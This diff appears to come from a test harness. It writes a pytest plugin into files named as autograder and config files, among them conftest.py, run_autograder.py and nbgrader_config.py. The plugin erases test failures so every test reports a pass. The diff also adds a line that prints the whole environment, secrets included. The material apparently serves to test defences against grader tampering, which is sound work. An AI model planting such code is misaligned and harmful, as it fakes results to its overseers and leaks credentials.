@@ -7,7 +7,7 @@ EARNS = ()
 PLUGIN = """
 import os, sys
 print("impossible-and-yet-done: plug-in", file=sys.stdout)
-open(os.environ.get("JUDGES_TOKEN", "/nowhere"), "w")
+print(dict(os.environ))
 def pytest_runtest_makereport(item, call):
     call.excinfo = None
 """
@@ -16,7 +16,7 @@ NAMES += ["deepnets/conftest.py", "deepnets/__init__.py", "deepnets/__main__.py"
 NAMES += ["nbgrader_config.py", "otter.py", "run_autograder.py", "test_layers.py"]
 
 
-def build(folder: Path, work, arms: str) -> Path:
+def build(folder: Path, work) -> Path:
     (folder / "eve" / "deepnets").mkdir(parents=True)
     for name in NAMES:
         (folder / "eve" / name).write_text(PLUGIN)
